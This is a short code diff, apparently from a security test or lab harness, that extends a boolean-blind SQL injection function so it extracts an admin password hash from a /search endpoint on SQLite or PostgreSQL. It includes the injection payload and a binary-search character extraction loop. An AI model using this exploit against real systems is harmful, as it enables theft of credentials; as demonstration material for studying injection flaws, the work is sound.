@@ -75,8 +75,9 @@ def steal_by_reading_roles(client):
     return next(row["price"] for row in client.get("/search", params={"q": q}).json() if row["name"] == "admin")
 
 
-def steal_by_boolean_blind(client):
-    """One yes/no question per request: is the hash's i-th character greater than c? (binary search)."""
+def steal_by_boolean_blind(client, char_code="unicode"):
+    """One yes/no question per request: is the hash's i-th character greater than c? (binary search).
+    `char_code` is the engine's character-code function: SQLite's unicode(), PostgreSQL's ascii()."""
 
     def true(condition):
         q = f"Blue mug' AND ({condition}) --"
@@ -89,7 +90,7 @@ def steal_by_boolean_blind(client):
         low, high = 32, 126
         while low < high:
             middle = (low + high) // 2
-            if true(f"unicode(substr({admin}, {i}, 1)) > {middle}"):
+            if true(f"{char_code}(substr({admin}, {i}, 1)) > {middle}"):
                 low = middle + 1
             else:
                 high = middle
